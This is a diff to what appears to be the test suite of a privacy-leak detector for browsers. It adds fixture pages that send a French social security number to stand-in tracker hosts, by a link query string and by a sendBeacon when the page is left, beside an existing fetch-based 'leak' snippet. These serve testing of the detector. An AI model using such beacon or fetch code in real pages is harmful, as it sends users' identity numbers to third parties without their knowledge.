@@ -13,6 +13,10 @@ const pages = {
   '/vers-un-tiers': form('https://suivi.test/envoi'),
   '/par-script': `${form('https://portail.test/x')}<button id="partir" onclick="location.href = 'https://ailleurs.test/vide'">Partir</button>`,
   '/vide': '<p>Rien</p>',
+  '/lien-bavard': `<a id="lien" href="http://ailleurs.test/vide?nir=${NIR}">Ailleurs</a>`,
+  '/retour': '<script>setTimeout(() => history.back(), 0)</script>',
+  '/adieu': `<script>addEventListener('pagehide', () => navigator.sendBeacon('https://suivi.test/adieu', 'nir=${NIR}'))</script>`,
+  '/titre': `${form('https://portail.test/x', '<label>Nom <input id="nom" name="nom"></label>')}<script>document.querySelector('#nom').addEventListener('input', ({target}) => { document.title = 'Dossier de ' + target.value; });</script>`,
 };
 const leak = `() => fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: JSON.stringify({nir: ${NIR}})}).then(() => 1)`;
 const has =
@@ -161,6 +165,81 @@ describe.each(browsers)('in %s', (name) => {
       ['data-in-address', 'ailleurs.test'],
     ]);
     expect(report.page.url).toBe('https://ailleurs.test/vide?nir=…');
+  });
+
+  it('tells of what a link carries, though the visit ends with it', async () => {
+    page = await browser.page('https://portail.test/lien-bavard');
+    await page.click('#lien');
+    await page.waitFor("location.host === 'ailleurs.test'");
+    const report = await browser.reportWhen(page, 'the link', has('data-in-address'));
+    expect(has('plain-http')(report)).toBe(true);
+    expect(report.visit?.pages).toEqual(['http://ailleurs.test/vide?nir=…']);
+  });
+
+  it('does not let a page erase its leak by going back', async () => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(leak);
+    await browser.reportWhen(page, 'the leak', has('third-party'));
+    await page.evaluate("() => { location.href = 'https://ailleurs.test/retour'; }");
+    await browser.reportWhen(
+      page,
+      'back again',
+      ({visit, page: {host}}) => host === 'portail.test' && (visit?.pages.length ?? 0) > 2,
+    );
+    expect(has('third-party')(await browser.report(page))).toBe(true);
+  });
+
+  it('does not blame a site for what the one before sent as it went', async () => {
+    page = await browser.page('https://portail.test/adieu');
+    servers.log.clear();
+    await page.goto('https://ailleurs.test/vide');
+    await servers.log.arrived(({path, complete}) => path === '/adieu' && complete);
+    await page.evaluate("() => fetch('https://ailleurs.test/fin').then(() => 1)");
+    const report = await browser.reportWhen(
+      page,
+      'the new page',
+      ({page: {host}, traffic}) => host === 'ailleurs.test' && traffic.requests > 0,
+    );
+    expect(report.findings).toEqual([]);
+  });
+
+  it('hides in the page’s title what was typed', async () => {
+    page = await browser.page('https://portail.test/titre');
+    await browser.reportWhen(page, 'the form', ({fields}) => fields.length > 1);
+    await page.type('#nom', 'Lefebvre');
+    await browser.reportWhen(page, 'the typed field', ({fields}) =>
+      fields.some(({filled, category}) => filled && category === 'name'),
+    );
+    const report = await browser.reportWhen(
+      page,
+      'the title',
+      ({page: {title}}) => title?.startsWith('Dossier de') === true && title.includes('…'),
+    );
+    expect(JSON.stringify(report)).not.toContain('Lefebvre');
+  });
+
+  it('answers with what it knows when storage is full', async () => {
+    page = await browser.page('http://portail.test/formulaire');
+    const own = await browser.extensionPage('manifest.json');
+    await own.evaluate(`async () => {
+      const {session} = (globalThis.browser ?? globalThis.chrome).storage;
+      for (let size = 4_000_000, n = 0; size > 500; ) {
+        try { await session.set({['plein' + n]: 'x'.repeat(size)}); n += 1; } catch { size = Math.floor(size / 2); }
+      }
+    }`);
+    await page.bringToFront();
+    await page.evaluate(leak);
+    const report = await browser.reportWhen(page, 'the leak, from memory', has('third-party'));
+    expect(report.verdict).toBe('exposed');
+    await own.evaluate(`async () => {
+      const {session} = (globalThis.browser ?? globalThis.chrome).storage;
+      await session.remove(Object.keys(await session.get(null)).filter((key) => key.startsWith('plein')));
+    }`);
+    await own.close();
+    await page.evaluate(leak);
+    await browser.reportWhen(page, 'the next leak', (one) => count(one, 'third-party') === 2);
+    await browser.stopBackground();
+    expect(count(await browser.report(page), 'third-party')).toBe(2);
   });
 
   it('begins again when the person says so, with what the page is built to do', async () => {
